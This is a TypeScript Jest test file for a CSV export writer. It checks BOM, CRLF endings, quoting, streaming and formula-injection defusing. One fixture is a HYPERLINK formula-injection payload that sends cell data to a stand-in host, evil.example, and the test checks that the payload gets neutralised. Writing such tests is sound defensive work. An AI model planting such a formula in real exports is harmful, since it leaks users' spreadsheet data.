import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { PassThrough } from 'node:stream';
import { csvField, defused, writeCsvTable } from './csv-table.js';
import { typed, type ExportTable } from './export-table.js';

async function csvOf(table: ExportTable, highWaterMark?: number): Promise<Buffer> {
  const out = new PassThrough(highWaterMark === undefined ? {} : { highWaterMark });
  const parts: Buffer[] = [];
  out.on('data', (part: Buffer) => parts.push(part));
  await writeCsvTable(out, table);
  return Buffer.concat(parts);
}

const TABLE: ExportTable = {
  title: 'Courses',
  columns: [
    { header: 'Course', kind: 'text', width: 10 },
    { header: 'From', kind: 'date', width: 10 },
    { header: 'Users', kind: 'count', width: 10 },
    { header: 'Completion rate', kind: 'share', width: 10 },
  ],
  rows: [
    ['Digital "skills", level 1', '2020-01-01', 1234, 0.375],
    ['Línia\ndues', '2020-02-01', 0, null],
    [typed('dateTime', new Date('2020-03-01T10:00:00Z')), null, typed('text', 'n'), 1 / 3],
  ],
};

describe('writeCsvTable', () => {
  it('writes UTF-8 with a BOM, CRLF lines and RFC 4180 quoting', async () => {
    const bytes = await csvOf(TABLE);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.split('\r\n')[0]).toBe('Course,From,Users,Completion rate');
    expect(text).toContain('"Digital ""skills"", level 1",2020-01-01,1234,0.375\r\n');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('reads back as the same values: numbers unformatted with a dot, dates ISO, nulls empty', async () => {
    const rows = parse((await csvOf(TABLE)).toString('utf8'), { bom: true });
    expect(rows).toEqual([
      ['Course', 'From', 'Users', 'Completion rate'],
      ['Digital "skills", level 1', '2020-01-01', '1234', '0.375'],
      ['Línia\ndues', '2020-02-01', '0', ''],
      ['2020-03-01T10:00:00.000Z', '', 'n', String(1 / 3)],
    ]);
  });

  it('streams a long table through a slow reader without losing a row', async () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => [`row ${i}`, '2020-01-01', i, null]);
    const bytes = await csvOf({ ...TABLE, rows }, 64);
    const parsed = parse(bytes.toString('utf8'), { bom: true });
    expect(parsed).toHaveLength(5_001);
    expect(parsed[5_000]).toEqual(['row 4999', '2020-01-01', '4999', '']);
  });

  it('defuses text that a spreadsheet would run as a formula, and leaves numbers as numbers', async () => {
    const table: ExportTable = {
      title: 'Courses',
      columns: [
        { header: '=Course', kind: 'text', width: 10 },
        { header: 'Change', kind: 'count', width: 10 },
      ],
      rows: [
        ['=HYPERLINK("https://evil.example/?d="&A3,"Click")', -5],
        ['+1 course', typed('text', '-5')],
        ['@SUM(A1)', typed('amount', -12.5)],
        ['\tTabbed', 0],
        ['\rReturned', null],
        ['Plain - title', 3],
      ],
    };
    const text = (await csvOf(table)).toString('utf8');
    expect(text).toContain('\r\n"\'=HYPERLINK(""https://evil.example/?d=""&A3,""Click"")",-5\r\n');
    expect(parse(text, { bom: true })).toEqual([
      ["'=Course", 'Change'],
      ['\'=HYPERLINK("https://evil.example/?d="&A3,"Click")', '-5'],
      ["'+1 course", "'-5"],
      ["'@SUM(A1)", '-12.5'],
      ["'\tTabbed", '0'],
      ["'\rReturned", ''],
      ['Plain - title', '3'],
    ]);
  });

  it('defuses only a formula’s first character', () => {
    expect(['=1', '+1', '-1', '@a', '\ta', '\ra'].map(defused)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@a",
      "'\ta",
      "'\ra",
    ]);
    expect(['a=1', '1-2', 'e-mail', '', "'quoted", ' =1'].map(defused)).toEqual([
      'a=1',
      '1-2',
      'e-mail',
      '',
      "'quoted",
      ' =1',
    ]);
  });

  it('quotes only what needs it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"');
  });
});
